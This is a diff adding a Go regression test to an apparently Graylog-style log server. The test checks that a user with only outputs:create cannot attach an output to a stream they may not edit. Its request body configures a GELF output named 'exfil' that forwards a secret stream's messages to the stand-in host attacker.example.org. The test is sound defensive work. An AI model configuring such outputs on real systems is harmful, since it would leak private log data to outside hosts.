@@ -279,3 +279,35 @@ func TestSuccessorLinkEscapesIDs(t *testing.T) {
 		t.Errorf("Link %q, want %q", r.Header.Get("Link"), want)
 	}
 }
+
+// TestOutputCreateNeedsStreamEdit: an output created with streams is
+// attached to them only for a caller who may attach outputs to each
+// (streams:edit:<id>, stream_outputs:create), as POST /streams/{id}/outputs
+// asks. outputs:create alone attached an output to any stream, whose
+// messages it then forwarded to a host of the caller's choosing.
+func TestOutputCreateNeedsStreamEdit(t *testing.T) {
+	h := nodetest.Start(t)
+	root := nodetest.AsRoot()
+	secret := h.Do("POST", "/streams", map[string]any{"title": "secret", "index_set_id": defaultIndexSet(t, h),
+		"rules": []map[string]any{{"field": "source", "type": 1, "value": "hr", "inverted": false}}}, root).Want(t, http.StatusCreated).Get("stream_id").String()
+	h.Do("POST", "/roles", map[string]any{"name": "Output makers", "permissions": []string{"outputs:create", "outputs:read"}}, root).Want(t, http.StatusCreated)
+	h.CreateUser("mallory", "password1234", "Reader", "Output makers")
+	mallory := nodetest.Basic("mallory", "password1234")
+	body := func(streams ...string) map[string]any {
+		return map[string]any{"title": "exfil", "type": "org.graylog2.outputs.GelfOutput",
+			"configuration": map[string]any{"hostname": "attacker.example.org", "port": 12201, "protocol": "UDP"}, "streams": streams}
+	}
+	h.Do("POST", "/system/outputs", body(secret), mallory).Want(t, http.StatusForbidden)
+	h.Do("POST", "/system/outputs", body("5fc3a1e2b1f1a4a1c3e7d9f1"), mallory).Want(t, http.StatusForbidden) // unknown: the same
+	if outs := h.Do("GET", "/streams/"+secret, nil, root).Want(t, http.StatusOK).Get("outputs.#").Int(); outs != 0 {
+		t.Fatalf("%d outputs attached to a stream the caller may not edit", outs)
+	}
+	if n := h.Do("GET", "/system/outputs", nil, root).Want(t, http.StatusOK).Get("total").Int(); n != 0 {
+		t.Errorf("%d outputs stored by refused requests", n)
+	}
+	h.Do("POST", "/system/outputs", body(), mallory).Want(t, http.StatusCreated)
+	h.Do("POST", "/system/outputs", body(secret), root).Want(t, http.StatusCreated)
+	if outs := h.Do("GET", "/streams/"+secret, nil, root).Want(t, http.StatusOK).Get("outputs.#").Int(); outs != 1 {
+		t.Errorf("an administrator's output with streams: %d attached, want 1", outs)
+	}
+}
